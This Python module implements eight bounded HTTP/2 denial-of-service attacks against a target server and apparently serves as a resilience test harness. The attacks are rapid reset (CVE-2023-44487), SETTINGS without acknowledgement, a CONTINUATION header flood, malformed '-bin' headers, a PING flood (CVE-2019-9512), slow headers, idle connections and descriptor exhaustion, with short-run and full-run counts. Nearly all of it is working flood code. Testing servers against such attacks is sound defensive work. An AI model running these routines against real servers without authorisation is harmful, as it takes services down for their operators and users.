"""The attacks on HTTP/2 to which servers were or are open, each bounded in count and time.

An attack is called with the door, the path of a method, a count and a moment when it must end. It
returns how many of its moves it made. It holds on to what it opened until it returns.
"""

import contextlib
import time

from h2_client import Wire, continuation, ping, reset

BATCH = 100


def _over(until):
    return time.monotonic() >= until


@contextlib.contextmanager
def _wires(door):
    """Opens wires that are closed at the end; None where none can be opened."""
    opened = []

    def open_wire(**arguments):
        try:
            opened.append(Wire(door, **arguments))
            return opened[-1]
        except OSError:
            return None
    try:
        yield open_wire
    finally:
        for wire in opened:
            wire.close()


def _hold(until, wires, beat=None):
    while not _over(until):
        for wire in wires:
            if beat:
                beat(wire)
            elif not wire.closed:
                wire.drain()
        time.sleep(0.2)


def _moves(door, count, until, move, begin=None):
    """Moves until it is enough, on a wire that is opened anew whenever the other side has closed it.

    move(wire, made) returns how many moves it was; begin(wire) is called first on each wire.
    """
    made, wire = 0, None
    with _wires(door) as open_wire:
        while made < count and not _over(until):
            if wire is None or wire.closed:
                wire = open_wire()
                if wire is None:
                    time.sleep(0.05)
                    continue
                if begin:
                    begin(wire)
            made += move(wire, made)
    return made


def rapid_reset(door, path, count, until):
    """Calls which are reset as soon as they are made (CVE-2023-44487)."""
    def move(wire, _):
        batch = b""
        for _ in range(BATCH):
            stream = wire.next_stream
            batch += wire.headers(path) + reset(stream)
        wire.send(batch)
        return BATCH
    return _moves(door, count, until, move)


def settings_without_ack(door, path, count, until):
    """More calls at once than the settings allow, which were never acknowledged."""
    made = 0
    with _wires(door) as open_wire:
        wires = [open_wire(acknowledge=False)]
        while made < count and not _over(until) and wires[-1] is not None:
            batch = b"".join(wires[-1].headers(path) for _ in range(BATCH))
            if not wires[-1].send(batch):
                wires.append(open_wire(acknowledge=False))
            made += BATCH
        _hold(until, [wire for wire in wires if wire is not None])
    return made


def header_flood(door, path, count, until):
    """Headers that never end: CONTINUATION after CONTINUATION."""
    # A literal header that is not indexed: x: followed by 16,000 bytes.
    piece = b"\x00\x01x\x7f\x81\x7c" + b"a" * 16000
    stream = 0

    def begin(wire):
        nonlocal stream
        stream = wire.next_stream
        wire.send(wire.headers(path, flags=()))

    def move(wire, _):
        wire.send(continuation(stream, piece))
        return 1
    return _moves(door, count, until, move, begin)


def bad_binary_header(door, path, count, until):
    """Headers whose names promise base64 that they do not hold."""
    def move(wire, _):
        wire.send(wire.headers(path, [("x-trace-bin", "!not base64!")], ("END_HEADERS", "END_STREAM")))
        time.sleep(0.001)
        return 1
    return _moves(door, count, until, move)


def ping_flood(door, path, count, until):  # pylint: disable=unused-argument
    """Pings, whose answers are never read in time (CVE-2019-9512)."""
    def move(wire, made):
        wire.send(b"".join(ping(made + i) for i in range(BATCH)))
        return BATCH
    return _moves(door, count, until, move)


def slow_headers(door, path, count, until):
    """Connections that send a byte of their headers now and then."""
    with _wires(door) as open_wire:
        wires = [wire for wire in (open_wire() for _ in range(count)) if wire is not None]
        rest = {id(wire): iter(wire.headers(path)) for wire in wires}

        def beat(wire):
            byte = next(rest[id(wire)], None)
            if byte is not None and not wire.closed:
                wire.send(bytes([byte]))
        _hold(until, wires, beat)
    return len(wires)


def idle_connections(door, path, count, until):  # pylint: disable=unused-argument
    """Connections that do nothing."""
    made = 0
    with _wires(door) as open_wire:
        while made < count and not _over(until):
            if open_wire() is None:
                break
            made += 1
        time.sleep(max(0, until - time.monotonic()))
    return made


def open_calls(door, path, count, until):
    """Connections with a call that is never ended: each takes descriptors as far as it gets."""
    with _wires(door) as open_wire:
        wires = []
        while len(wires) < count and not _over(until):
            wire = open_wire()
            if wire is None:
                time.sleep(0.05)
                continue
            wire.send(wire.headers(path))
            wires.append(wire)
        _hold(until, wires)
    return len(wires)


# Attack, count of a short run, count of the full one.
ATTACKS = {
    "rapid reset": (rapid_reset, 20_000, 100_000),
    "settings without ack": (settings_without_ack, 2_000, 20_000),
    "header flood": (header_flood, 500, 20_000),
    "bad binary header": (bad_binary_header, 500, 10_000),
    "ping flood": (ping_flood, 20_000, 1_000_000),
    "slow headers": (slow_headers, 100, 500),
    "idle connections": (idle_connections, 200, 5_000),
    "descriptors": (open_calls, 400, 2_000),
}
